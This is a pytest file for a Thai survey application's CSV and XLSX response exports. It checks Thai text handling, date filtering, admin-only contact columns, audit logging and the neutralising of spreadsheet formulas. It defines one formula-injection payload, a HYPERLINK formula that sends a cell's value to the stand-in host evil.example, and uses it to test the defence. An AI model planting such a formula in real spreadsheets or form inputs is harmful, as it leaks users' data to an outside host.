"""Responses as XLSX and CSV: a row per response, Thai intact, formulas defused, PDPA kept."""

import csv
import io
from datetime import datetime

import pytest
from openpyxl import load_workbook

from prongsai.orgs.models import AuditEvent, Membership
from prongsai.surveys import exports
from prongsai.surveys.models import Survey
from prongsai.surveys.tests.factories import mixed_survey, respond

Role = Membership.Role
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"คลิก")'


@pytest.fixture
def survey(org):
    survey = mixed_survey(org)
    Survey.objects.filter(pk=survey.pk).update(asks_contact=True)
    survey.refresh_from_db()
    respond(
        survey,
        at=datetime(2024, 1, 10, 9, 30),
        ความรวดเร็วในการให้บริการ=5,
        ความสุภาพของเจ้าหน้าที่=4,
        เพศ="หญิง",
        รู้จักบริการจากช่องทางใด=["หอกระจายข่าว", "เว็บไซต์"],
        ข้อเสนอแนะ=INJECTION,
        contact={"name": "สมหญิง ใจดี", "phone": "+66812345678", "email": "somying@example.com"},
    )
    respond(
        survey,
        at=datetime(2024, 2, 1, 14, 0),
        ความรวดเร็วในการให้บริการ=3,
        ความสุภาพของเจ้าหน้าที่=3,
        ข้อเสนอแนะ="ขอบคุณค่ะ บริการดีมาก\nบรรทัดที่สอง",
    )
    return survey


def export(client, org, survey, fmt, query=""):
    return client.get(f"/{org.slug}/staff/surveys/{survey.pk}/export.{fmt}{query}")


def read_csv(response) -> list[list[str]]:
    body = response.content
    assert body.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def test_the_csv_has_a_row_per_response_and_a_column_per_question(client, org, alice, survey):
    client.force_login(alice)
    response = export(client, org, survey, "csv")
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    header, first, second = read_csv(response)
    questions = [q.text for q in survey.questions.all()]
    assert header[3:8] == questions
    assert header[8:] == ["ชื่อผู้ตอบ", "โทรศัพท์", "อีเมล", "ยินยอมให้ใช้ข้อมูลเมื่อ"]
    assert first[:4] == ["1", "2024-01-10 09:30", "4.500", "5"]
    assert first[5] == "หญิง"
    assert first[6] == "เว็บไซต์, หอกระจายข่าว"  # in the order of the form
    assert first[8:11] == ["สมหญิง ใจดี", "'+66812345678", "somying@example.com"]
    assert second[5:7] == ["", ""]
    assert second[7] == "ขอบคุณค่ะ บริการดีมาก\nบรรทัดที่สอง"


def test_the_csv_defuses_formulas(client, org, alice, survey):
    client.force_login(alice)
    _header, first, _second = read_csv(export(client, org, survey, "csv"))
    assert first[7] == "'" + INJECTION
    for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1"):
        assert exports.neutralise(value) == "'" + value
    assert exports.neutralise("ปกติ -1") == "ปกติ -1" and exports.neutralise(5) == 5


def test_the_xlsx_holds_the_same_table_with_formulas_as_plain_text(client, org, alice, survey):
    client.force_login(alice)
    response = export(client, org, survey, "xlsx")
    assert response["Content-Type"] == exports.XLSX_TYPE
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook.worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert len(rows) == 3
    assert rows[0][3] == "ความรวดเร็วในการให้บริการ" and rows[0][8] == "ชื่อผู้ตอบ"
    assert rows[1][1] == datetime(2024, 1, 10, 9, 30)
    assert rows[1][2] == 4.5 and rows[1][3] == 5
    assert rows[1][6] == "เว็บไซต์, หอกระจายข่าว"
    assert rows[1][8] == "สมหญิง ใจดี"
    formula = sheet.cell(row=2, column=8)
    assert formula.value == INJECTION and formula.data_type == "s" and formula.quotePrefix
    assert rows[2][7] == "ขอบคุณค่ะ บริการดีมาก\nบรรทัดที่สอง"
    about = dict(workbook.worksheets[1].iter_rows(values_only=True))
    assert about["จำนวนผู้ตอบ"] == 2 and about["หน่วยงาน"] == "อบต.อลิซ"
    assert about["ร้อยละความพึงพอใจ"] == 75.0


def test_the_period_filter_applies(client, org, alice, survey):
    client.force_login(alice)
    rows = read_csv(export(client, org, survey, "csv", "?start=2024-02-01&end=2024-02-29"))
    assert len(rows) == 2 and rows[1][1] == "2024-02-01 14:00"
    workbook = load_workbook(
        io.BytesIO(export(client, org, survey, "xlsx", "?end=2024-01-31").content)
    )
    assert workbook.worksheets[0].max_row == 2


@pytest.mark.parametrize("role", [Role.OFFICER, Role.EXECUTIVE])
def test_contact_data_is_for_admins_only(client, org, make_member, survey, role):
    client.force_login(make_member(org, role).user)
    for fmt in exports.FORMATS:
        body = export(client, org, survey, fmt)
        assert body.status_code == 200
    header, first, _second = read_csv(export(client, org, survey, "csv"))
    assert "ชื่อผู้ตอบ" not in header and len(first) == 8
    assert "สมหญิง" not in export(client, org, survey, "csv").content.decode("utf-8-sig")
    sheet = load_workbook(io.BytesIO(export(client, org, survey, "xlsx").content)).worksheets[0]
    assert sheet.max_column == 8


def test_no_contact_columns_when_the_survey_does_not_ask(client, org, alice, survey):
    Survey.objects.filter(pk=survey.pk).update(asks_contact=False)
    client.force_login(alice)
    header, *_rows = read_csv(export(client, org, survey, "csv"))
    assert "ชื่อผู้ตอบ" not in header


def test_exports_are_audit_logged_and_refused_to_others(
    client, org, other_org, bob, make_member, survey
):
    client.force_login(bob)
    assert export(client, org, survey, "csv").status_code == 403
    bob_url = f"/{other_org.slug}/staff/surveys/{survey.pk}/export.csv"
    assert client.get(bob_url).status_code == 404
    client.force_login(make_member(org, Role.STAFF).user)
    assert export(client, org, survey, "xlsx").status_code == 403
    admin = make_member(org, Role.ADMIN).user
    client.force_login(admin)
    assert export(client, org, survey, "pdf").status_code == 404
    export(client, org, survey, "csv")
    event = AuditEvent.objects.get(action="survey_exported")
    assert event.actor == admin and event.detail["with_contact"] is True
